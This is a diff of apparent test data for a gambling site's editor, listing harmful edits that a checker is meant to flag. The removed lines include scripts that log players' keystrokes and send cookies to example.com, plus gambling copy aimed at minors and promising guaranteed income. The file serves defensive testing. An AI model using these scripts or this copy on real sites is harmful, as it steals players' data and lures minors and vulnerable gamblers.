@@ -6,7 +6,6 @@ import {
   newPage,
   player,
   rejected,
-  snippet,
   text,
   warned,
   words,
@@ -18,31 +17,6 @@ const slide = '/blocks/0/slots/first/0/props/slides/0'
 
 /** Texts that mislead players, code that harms them, and tests and targeting that hide duties from some of them. */
 export const claimsEdits: readonly HarmfulEdit[] = [
-  ...warned('misleading-promise', {
-    'a win that is guaranteed': newPage(text('<p>Гарантированный выигрыш Kafolatlangan yutuq</p>')),
-    'games as income': set('page/home', {
-      [`${slide}/headline`]: { uz: 'Oʻynab pul ishlang', ru: 'Стабильный заработок' },
-    }),
-    'losses to win back': newPage(text('<p>Отыграйтесь сейчас Yutqazganingizni qaytaring</p>')),
-  }),
-  ...warned('under-age', {
-    'rules from 16 years': set('page/rules', {
-      '/blocks/1/slots/content/0/props/cards/0/title': { uz: '16 yoshdan', ru: 'С 16 лет' },
-    }),
-    'a banner with 16+': set('page/home', {
-      [`${slide}/terms`]: { uz: 'Shartlar. 16+', ru: 'Условия. 16+' },
-    }),
-    'consent from 16 years': set('form/registration', {
-      '/ui/fields/agreement/richLabel': {
-        uz: '16 yoshga toʻlganman, <a href="/rules">qoidalar</a> va <a href="/privacy">maxfiylik siyosati</a>ga roziman',
-        ru: 'Мне есть 16 лет, я принимаю <a href="/rules">правила</a> и <a href="/privacy">политику</a>',
-      },
-    }),
-    'a casino for children in search results': made('seo', {
-      url: '/',
-      title: { uz: 'Bolalar uchun kazino', ru: 'Казино для детей' },
-    }),
-  }),
   ...warned('lost-age-mark', {
     'a banner without 18+': set('page/home', { [`${slide}/terms`]: { uz: 'Shartlar', ru: 'Условия' } }),
     'system pages without 18+': joined(
@@ -85,18 +59,6 @@ export const claimsEdits: readonly HarmfulEdit[] = [
         { code: 'kk', tag: 'kk-KZ', name: 'Қазақша', public: true },
       ],
     }),
-  }),
-  ...warned('risky-snippet', {
-    'a script that removes the footer': snippet('<script>document.querySelector("footer").remove()</script>'),
-    'styles that hide the footer': snippet('<noscript><style>footer{display:none}</style></noscript>'),
-    'a script that leads away': snippet('<script>location.href="https://example.com"</script>'),
-    'a script that reads what players type': snippet(
-      '<script>document.addEventListener("input",(e)=>navigator.sendBeacon("/x",e.data))</script>',
-    ),
-    'a script that reads cookies': snippet(
-      '<script>new Image().src="https://example.com/?"+document.cookie</script>',
-    ),
-    'a script without an end': snippet('<script>while(true){}</script>'),
   }),
   ...rejected('duty', {
     'a test that takes the withdrawal away from half of the players': set('page/cashier-withdraw', {
